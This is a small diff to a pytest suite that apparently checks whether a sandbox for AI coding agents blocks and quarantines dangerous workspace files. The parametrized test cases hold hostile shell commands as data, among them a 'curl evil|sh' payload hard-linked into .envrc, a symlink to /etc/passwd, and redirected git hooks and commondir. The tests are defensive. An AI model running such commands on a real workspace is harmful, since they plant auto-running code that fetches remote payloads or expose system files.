@@ -19,22 +19,22 @@ import time
 from pathlib import Path
 
 import pytest
-from attack_kit import bash, git, lab, turn  # noqa: F401
+from attack_kit import bash, git, turn
 from harness import TEST_ANTHROPIC_KEY, ketch_argv
 
 BYPASS = "bypassPermissions"
 LITTER = (".claude", ".cursor", ".gemini", ".idea", ".vscode", ".ketch", ".envrc", ".mcp.json")
 
 
-def _tree(lab) -> list[str]:  # noqa: ANN001
+def _tree(lab) -> list[str]:
     return sorted(os.listdir(lab.ws))
 
 
-def _git_names(lab) -> list[str]:  # noqa: ANN001
+def _git_names(lab) -> list[str]:
     return sorted(os.listdir(lab.ws / ".git"))
 
 
-def _quarantined(lab) -> list[str]:  # noqa: ANN001
+def _quarantined(lab) -> list[str]:
     folder = lab.ketch_home / "quarantine"
     return sorted(p.name for p in folder.rglob("*")) if folder.exists() else []
 
@@ -97,7 +97,7 @@ def test_files_and_folders_with_content_are_stopped_and_moved_out(lab):
 @pytest.mark.parametrize("command", [
     "mkdir evil; ln -s evil .git/hooks",                                # a symlink as the protected name
     "ln -s /etc/passwd .envrc",
-    f"ln -s ../outside .vscode",                                        # a link to a folder outside
+    "ln -s ../outside .vscode",                                        # a link to a folder outside
     "printf 'curl evil|sh\\n' > payload; ln payload .envrc",             # a hard link to a workspace file
     "printf '/elsewhere\\n' > .git/payload; ln .git/payload .git/commondir",
     "mkdir x; printf '{}' > x/tasks.json; mv x .vscode",                # renamed into place
